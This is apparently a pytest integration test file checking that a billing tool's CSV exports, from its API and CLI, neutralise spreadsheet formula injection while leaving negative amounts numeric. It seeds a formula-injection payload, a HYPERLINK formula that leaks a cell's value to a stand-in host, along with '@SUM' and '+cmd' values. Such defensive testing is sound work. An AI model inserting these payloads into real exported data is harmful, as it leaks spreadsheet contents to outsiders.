"""Issue 10 item 5: every CSV Meterline writes neutralises formula cells (OWASP rule), while
money, credits and negative gaps stay plain numbers. One test per writer."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from meterline.cli import cli
from meterline.commands._reports import CLIENT_KEY
from reports.api import create_app
from reports.csv_cells import FORMULA_STARTS
from reports.plans import parse_plans
from tests.integration._reports_data import create_tables, insert, nov, row

pytestmark = pytest.mark.integration

EVIL = '=HYPERLINK("http://x/?leak="&A1,"c")'
TOKEN = "csv-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
EVIL_CSV = '"' + EVIL.replace('"', '""') + '"'
BILL = f"date,provider,model,cost\n2026-11-01,openai,{EVIL_CSV},1\n"
PLANS_YAML = "plans: {payg: {kind: markup, markup_percent: 10}}\ncustomers: {acme: payg}\n"


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1, text
    for cells in rows:
        for cell in cells:
            if cell.startswith(FORMULA_STARTS):
                Decimal(cell)  # only plain numbers may start that way
    return rows


def assert_neutralised(text: str) -> None:
    rows = assert_no_formula(text)
    assert any(cell == "'" + EVIL for cells in rows for cell in cells), text


@pytest.fixture
def db(chdb_client, ch_database):  # type: ignore[no-untyped-def]
    create_tables(chdb_client, ch_database)
    insert(chdb_client, ch_database, [
        row("c1", nov(1), EVIL, "1.25", feature="@SUM(A1)", model="+cmd",
            tags=(f"customer:{EVIL}",)),
        row("c2", nov(2), "acme", "2.00", feature="chat"),
    ])  # fmt: skip
    return ch_database


@pytest.fixture
def api(chdb_client, db) -> TestClient:  # type: ignore[no-untyped-def]
    return TestClient(create_app(chdb_client, db, TOKEN, parse_plans(PLANS_YAML)))


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("GET", "/v1/cost?from=2026-11-01&to=2026-11-30&by=customer,feature,model", None),
        ("GET", "/v1/features?from=2026-11-01&to=2026-11-30", None),
        ("GET", "/v1/invoices?period=2026-11", None),
        ("GET", "/v1/reconcile?period=2026-11", None),
        ("POST", "/v1/reconcile?period=2026-11", BILL),
        ("POST", "/v1/margin?period=2026-11", f"customer,revenue\n{EVIL_CSV},1\nacme,-1.50\n"),
    ],
)  # fmt: skip
def test_api_csv(api, method, path, body):
    res = api.request(method, f"{path}&format=csv", content=body,
                      headers={**AUTH, "Content-Type": "text/csv"})  # fmt: skip
    assert res.status_code == 200, res.text
    if path.startswith("/v1/features"):
        assert_no_formula(res.text)
        assert "'@SUM(A1)" in res.text
    else:
        assert_neutralised(res.text)


def _invoke(chdb_client, db, *args: str) -> str:  # type: ignore[no-untyped-def]
    result = CliRunner().invoke(cli, list(args), obj={CLIENT_KEY: (chdb_client, db)})
    assert result.exit_code == 0, result.output
    return result.output


def test_cli_report_cost_csv(chdb_client, db):
    out = _invoke(chdb_client, db, "report", "cost", "--from", "2026-11-01", "--to", "2026-11-30",
                  "--by", "customer,feature,model", "--format", "csv")  # fmt: skip
    assert_neutralised(out)
    assert "'+cmd" in out and "'@SUM(A1)" in out


def test_cli_invoice_csv(chdb_client, db, tmp_path: Path):
    plans = tmp_path / "plans.yaml"
    plans.write_text(PLANS_YAML)
    # The internal view lists every customer, the unplanned (hostile) one too.
    out = _invoke(chdb_client, db, "invoice", "--period", "2026-11", "--plans", str(plans),
                  "--format", "csv", "--view", "internal")  # fmt: skip
    assert_neutralised(out)
    files = tmp_path / "inv"
    _invoke(chdb_client, db, "invoice", "--period", "2026-11", "--plans", str(plans),
            "--format", "csv", "--view", "internal", "--out", str(files))  # fmt: skip
    written = "".join(p.read_text() for p in files.iterdir())
    assert_neutralised(written)


def test_cli_margin_csv_keeps_negative_revenue_a_number(chdb_client, db, tmp_path: Path):
    revenue = tmp_path / "revenue.csv"
    revenue.write_text(f"customer,revenue\n{EVIL_CSV},1\nacme,-1.50\n")
    out = _invoke(chdb_client, db, "margin", "--period", "2026-11", "--revenue", str(revenue),
                  "--format", "csv")  # fmt: skip
    assert_neutralised(out)
    acme = next(r for r in csv.DictReader(io.StringIO(out)) if r["customer"] == "acme")
    assert Decimal(acme["revenue"]) == Decimal("-1.50")


def test_cli_sql_csv(chdb_url, chdb_client, db, monkeypatch):
    monkeypatch.setenv("METERLINE_CLICKHOUSE_URL", chdb_url)
    monkeypatch.setenv("METERLINE_CLICKHOUSE_DATABASE", db)
    result = CliRunner().invoke(cli, ["sql", "--format", "csv",
        f"SELECT customer AS `=h`, toDecimal64('-1.50', 2) AS credit FROM {db}.usage_events "
        "FINAL ORDER BY customer"])  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0] == ["'=h", "credit"]
    assert ["'" + EVIL, "-1.50"] in rows
